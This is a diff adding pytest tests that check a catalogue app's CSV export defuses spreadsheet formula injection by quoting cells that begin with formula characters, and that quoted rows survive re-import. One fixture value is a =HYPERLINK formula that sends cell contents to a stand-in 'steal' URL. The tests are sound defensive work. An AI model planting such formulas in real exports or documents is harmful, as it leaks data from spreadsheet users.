@@ -163,3 +163,94 @@ def test_csv_round_trip_through_the_import(db):
     rebuilt = import_innovations(exported, publish=True)
     assert rebuilt.ok and rebuilt.created == 87
     assert _comparable(export("csv")) == _comparable(exported)
+
+
+# --- spreadsheet formulas ("CSV injection") -----------------------------------------------------
+FORMULAS = [
+    '=HYPERLINK("http://contoh.test/curi?d="&A1,"Klik di sini")',
+    "+1 layanan baru",
+    "-2+3",
+    "@SUM(1)",
+]
+
+
+@pytest.fixture
+def formulas(world):
+    """Published innovations whose name and summary start like a spreadsheet formula."""
+    for i, text in enumerate(FORMULAS):
+        InnovationFactory(
+            unit=world.unit,
+            name=f"{text} #{i}",
+            summary=f"{text} (ringkasan)",
+            publication_state="published",
+        )
+    return world
+
+
+def test_csv_quotes_text_that_a_spreadsheet_would_run_as_a_formula(formulas):
+    rows = csv_rows(export("csv"))
+    names = {r["name"] for r in rows}
+    for i, text in enumerate(FORMULAS):
+        assert f"'{text} #{i}" in names
+        assert f"{text} #{i}" not in names
+        solution = next(r["solution"] for r in rows if r["name"] == f"'{text} #{i}")
+        assert solution == f"'{text} (ringkasan)"
+    # no cell of the file starts like a formula any more
+    for r in rows:
+        for column, value in r.items():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+    # other text is left alone
+    assert "Baris Ditebas" in names
+
+
+def test_csv_writes_numbers_as_numbers_and_numeric_text_quoted(world):
+    from lumbung.catalog.exporting import csv_row, export_queryset, innovation_record
+
+    record = innovation_record(export_queryset().get(pk=world.published.pk))
+    record.update(
+        year=-5,
+        generation=-1,
+        start_year=2020,
+        acronym="-5",
+        name="+62 812 0000",
+        problem="\tcmd",
+        acronym_expansion="\rcmd",
+        award="Top 99 - 2023",
+    )
+    row = csv_row(record)
+    # a negative number in a numeric column is a number, not a formula
+    assert (row["year"], row["generation"], row["start_year"]) == (-5, -1, 2020)
+    # the same characters as text are quoted, and so are a leading tab and carriage return
+    assert (row["acronym"], row["name"]) == ("'-5", "'+62 812 0000")
+    assert (row["problem"], row["acronym_expansion"]) == ("'\tcmd", "'\rcmd")
+    # a formula character inside the text is harmless
+    assert row["award"] == "Top 99 - 2023"
+    out = io.StringIO()
+    csv.DictWriter(out, fieldnames=COLUMNS).writerow(row)
+    assert out.getvalue().startswith("'+62 812 0000,")
+
+
+def test_xlsx_cells_are_text_without_a_quote(formulas):
+    sheet = load_workbook(io.BytesIO(export("xlsx"))).active
+    names = {c.value for c in sheet["A"][1:]}
+    assert f"{FORMULAS[0]} #0" in names and f"'{FORMULAS[0]} #0" not in names
+
+
+def test_csv_with_formulas_round_trips_through_the_import(formulas):
+    exported = export("csv")
+    before = {
+        i.name: (i.summary, i.acronym_expansion)
+        for i in Innovation.objects.filter(publication_state="published")
+    }
+    Innovation.objects.all().delete()
+    report = import_innovations(exported, publish=True)
+    assert report.ok, report.problems
+    assert report.created == len(before)
+    # nothing had to be neutralised: the export quoted it
+    assert not [n for n in report.notices if "formula" in n]
+    after = {i.name: (i.summary, i.acronym_expansion) for i in Innovation.objects.all()}
+    assert after == before
+    for i, text in enumerate(FORMULAS):
+        assert f"{text} #{i}" in after
+    # and exporting again gives the same file
+    assert _comparable(export("csv")) == _comparable(exported)
